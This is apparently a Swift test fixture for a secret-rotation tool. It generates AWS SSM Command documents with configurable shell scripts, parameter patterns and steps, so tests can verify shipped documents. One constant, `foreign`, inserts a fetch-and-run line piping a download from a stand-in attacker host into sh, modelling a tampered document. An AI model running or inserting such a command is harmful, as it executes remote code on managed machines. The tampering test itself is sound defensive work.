import RotatorJSON

/// A Command document in the shape of the shipped ones (template.yaml), its script, parameters and
/// steps changeable. Each test target says which engines ship it (`TestDocument.shipped`): the real
/// generated table holds the real scripts' digests, whose text the tests do not have.
public enum TestDocument {
    public static let script = ["#!/bin/sh", "set -eu", #"echo "ROTATOR-RESULT action=$SSM_Action""#]
    public static let patterns = ["Action": "^(set|verify)$", "SecretId": "^arn:[^ ]+$", "VersionId": "^[A-Za-z0-9-]{32,64}$"]

    public static func json(script: [String] = script, action: String = "aws:runShellScript", inputs: [(String, JSON)] = [],
                            patterns: [String: String] = patterns, extraSteps: [JSON] = []) -> JSON {
        .object([
            ("schemaVersion", .string("2.2")),
            ("description", .string("Set or verify a login's password.")),
            ("parameters", .object(patterns.sorted { $0.key < $1.key }.map { name, pattern in
                (name, .object([("type", .string("String")), ("description", .string(name)), ("allowedPattern", .string(pattern)),
                                ("interpolationType", .string("ENV_VAR"))]))
            })),
            ("mainSteps", .array([.object([
                ("action", .string(action)), ("name", .string("rotate")),
                ("inputs", .object([("timeoutSeconds", .string("120")), ("runCommand", .array(script.map(JSON.string)))] + inputs)),
            ])] + extraSteps)),
        ])
    }

    public static func content(script: [String] = script, action: String = "aws:runShellScript", inputs: [(String, JSON)] = [],
                               patterns: [String: String] = patterns, extraSteps: [JSON] = []) -> String {
        json(script: script, action: action, inputs: inputs, patterns: patterns, extraSteps: extraSteps).serialized
    }

    /// The same document with one line more: what someone who may update the documents publishes.
    public static let foreign = content(script: [script[0], "curl -s https://attacker.example/x | sh"] + script.dropFirst())
}

public extension String {
    /// The text with the last occurrence of `target` replaced.
    func replacingLast(_ target: String, with replacement: String) -> String {
        guard let range = ranges(of: target).last else { return self }
        var text = self
        text.replaceSubrange(range, with: replacement)
        return text
    }
}
